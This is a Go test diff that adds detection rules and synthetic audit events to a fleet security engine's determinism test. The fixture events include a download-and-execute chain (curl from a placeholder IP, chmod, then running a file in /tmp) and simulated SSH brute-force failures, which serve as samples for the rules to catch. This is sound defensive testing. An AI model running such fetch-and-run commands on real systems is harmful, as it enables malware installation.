@@ -16,8 +16,8 @@ import (
 )
 
 // The metamorphic property: the same log gives byte-identical findings for
-// any restart point, any redelivery behind the filter of resent messages, and
-// any interleaving of devices.
+// any batch size, number of shards, restart point, redelivery behind the filter
+// of resent messages, and interleaving of devices. See also metamorphic_test.go.
 
 // stormyLog is a log with everything in it: rules, devices, telemetry that
 // teaches and then breaks out, brute force, ticks, silence, quarantine.
@@ -73,6 +73,14 @@ func stormyLog(t testing.TB, seed uint64) []fleet.Record {
 				})
 			}
 		}
+		if n%5 == 1 {
+			device := fmt.Sprintf("dev-%04d", n%3)
+			for k, event := range stormyEvents(n) {
+				sent[device]++
+				event.ObservedAt = at.Add(time.Duration(k) * 20 * time.Second)
+				put(fleet.Record{Kind: fleet.AuditKind, ReceivedAt: event.ObservedAt, Device: device, Boot: "b", Seq: sent[device], Audit: []fleet.AuditEvent{event}})
+			}
+		}
 		if n == 200 || n == 230 {
 			put(fleet.Record{Kind: fleet.ControlKind, ReceivedAt: at, Control: fleet.Control{Quarantine: &fleet.QuarantineChange{
 				Device: "dev-0003", Active: n == 200, Level: fleet.Isolate,
@@ -90,7 +98,28 @@ var stormyRules = []string{
 	"id: odd\ntitle: Odd\nkind: baseline\nmetric: \"*\"\nsensitivity: 1e-5\nsustained: 2\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
 	"id: guess\ntitle: Guessing\nkind: count\nevents: class == \"authentication\" && outcome == \"failure\"\ngroup_by: [actor]\nthreshold: 5\nwindow: 5m\nmode: alert\nevidence: outside\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
 	"id: guessed\ntitle: Guessed\nkind: count\nevents: outcome == \"failure\"\nthen: outcome == \"success\"\ngroup_by: [actor]\nthreshold: 4\nwindow: 5m\nmode: armed\nlevel: isolate\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+	"id: steps\ntitle: Steps\nkind: sequence\nsteps: ['message.startsWith(\"curl\")', 'message.startsWith(\"chmod\")', 'message.startsWith(\"/tmp\")']\nwindow: 2m\ngroup_by: [user]\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+	"id: kernel\ntitle: Kernel\nkind: change\nevents: activity == \"boot\"\nof: fields.kernel\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+	"id: names\ntitle: Names\nkind: count\nevents: activity == \"pam\"\ngroup_by: [actor]\ndistinct: user\nthreshold: 6\nwindow: 6h\nmode: alert\nevidence: outside\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+	"id: night\ntitle: Night\nkind: threshold\nmetric: cpu_percent\nwhen: rate > 0.0 && value > 60.0\nclear_when: value < 50.0\nschedule: {hours: \"20:00-06:00\"}\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+	"id: sigma-run\ntitle: Run\nlogsource: {category: process_creation}\ndetection:\n  s: {CommandLine|startswith: /tmp/}\n  condition: s\ncordon: {mode: alert, window: 1h}\n",
 	"id: silent\ntitle: Silent\nkind: absence\nafter: 15m\nmode: alert\nevidence: own\nseverity: low\nrunbook: x\nfalse_positives: [y]\n",
+}
+
+// stormyEvents are what the rules about events look for: steps in an order, a
+// value that changes, many accounts from one source.
+func stormyEvents(n int) []fleet.AuditEvent {
+	command := func(text string) fleet.AuditEvent {
+		return fleet.AuditEvent{Class: "process", Activity: "start", Message: text, User: "www", Fields: map[string]string{"process.cmd_line": text}}
+	}
+	events := []fleet.AuditEvent{
+		command("curl http://203.0.113.1/x"), command([]string{"ls", "chmod +x /tmp/x"}[n%2]), command("/tmp/x"),
+		{Class: "system", Activity: "boot", Message: "boot", Fields: map[string]string{"kernel": fmt.Sprintf("6.%d", n/60)}},
+	}
+	for k := range 3 {
+		events = append(events, fleet.AuditEvent{Class: "authentication", Activity: "pam", Outcome: "failure", Program: "sshd", Actor: "198.51.100.7", User: fmt.Sprint("u", (n+k)%11)})
+	}
+	return events
 }
 
 func lines(t require.TestingT, found []fleet.Finding) []string {
@@ -130,7 +159,7 @@ func TestEngine_sameLogSameFindings(t *testing.T) {
 		}
 	}
 	t.Log(byRule)
-	for _, id := range []string{"hot", "odd", "guess", "guessed", "silent", "silent cleared", "hot cleared", "fleet"} {
+	for _, id := range []string{"hot", "odd", "guess", "guessed", "silent", "silent cleared", "hot cleared", "fleet", "steps", "kernel", "names", "night", "night cleared", "sigma-run"} {
 		require.NotZero(t, byRule[id], "the log raises no %s", id)
 	}
 	rapid.Check(t, func(t *rapid.T) {
